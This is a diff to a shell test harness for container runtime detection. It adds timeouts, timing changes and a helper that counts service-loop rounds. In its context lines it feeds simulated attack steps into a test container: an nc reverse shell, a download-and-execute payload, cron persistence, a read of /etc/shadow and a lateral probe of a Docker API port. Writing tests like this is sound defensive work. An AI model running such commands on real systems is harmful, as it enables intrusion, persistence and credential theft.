@@ -114,8 +114,8 @@ cat >"$T/rootfs/bin/service" <<EOF
 httpd -p 8080 -h /www
 while true; do
 	u=\$(cat /ctl/url 2>/dev/null || echo index.html)
-	wget -q -O /dev/null "http://127.0.0.1:8080/\$u"
-	wget -q -O /dev/null "http://$NET.1:8081/status"
+	wget -T 3 -q -O /dev/null "http://127.0.0.1:8080/\$u"
+	wget -T 3 -q -O /dev/null "http://$NET.1:8081/status"
 	echo "\$(date) ok" >>/tmp/service.log
 	sleep 1
 done
@@ -152,9 +152,14 @@ run_web() {	# name: each container has its own control directory
 step() {	# name command: the attacked container's client fetches the CGI once
 	echo "$1 $(date +%s)" >>"$T/steps"
 	printf 'cgi-bin/run?%s' "$(jq -rn --arg c "$2" '$c | @uri')" >"$T/ctl-web-att/url"
-	sleep 1.5
+	sleep 2
 	echo index.html >"$T/ctl-web-att/url"
 	sleep 3
+}
+loops() {	# name: how many rounds the container's service loop has done (its log, read on the host)
+	local m
+	m=$(cat "$T/data/image/vfs/layerdb/mounts/$(cat "$T/id-$1")/mount-id" 2>/dev/null) &&
+		wc -l <"$T/data/vfs/dir/$m/tmp/service.log" 2>/dev/null || echo "?"
 }
 
 # 1. Baseline.
@@ -178,12 +183,14 @@ nap 10
 # The network works (checked from db: an exec into web-att would be a finding).
 $D exec db wget -q -O /dev/null "http://$NET.1:8081/status" \
 	|| { echo "FAIL: containers cannot reach the upstream $NET.1:8081"; exit 1; }
+echo "service rounds before the steps: web-fresh $(loops web-fresh), web-att $(loops web-att)" >"$T/rounds"
 : >"$T/steps"
 step reverse-shell "nc 127.0.0.1 4444 -e /bin/sh"
 step downloaded-binary "wget -q -O /tmp/x http://127.0.0.1:8080/payload && chmod +x /tmp/x && /tmp/x id"
 step cron-persistence "echo '* * * * * /tmp/x sh' > /etc/crontabs/root"
 step credential-read "cat /etc/shadow"
 step lateral "wget -q -O - http://$dbip:2375/index.html"
+echo "service rounds after the steps: web-fresh $(loops web-fresh), web-att $(loops web-att)" >>"$T/rounds"
 echo "exec-into $(date +%s)" >>"$T/steps"
 $D exec web-att sh -c id >/dev/null
 if [ "$dry" = 1 ]; then	# the attack steps really happened in the container
@@ -246,6 +253,7 @@ limit=$(echo "$hours" | awk '{ x = int($1 + 0.999); print x < 1 ? 1 : x }')
 [ "$partial" = 1 ] && { echo "partial run: report only"; exit 0; }
 if [ "$missed" -ne 0 ]; then	# what the attacked container did, to tell why
 	echo "steps (name, unix time):"; sed 's/^/  /' "$T/steps"
+	cat "$T/rounds"
 	echo "findings of web-att (severity rule time):"
 	jq -r '"  \(.severity) \(.rule) \(.time)"' "$T/att.json" | head -30
 	echo "events of web-att by kind:"
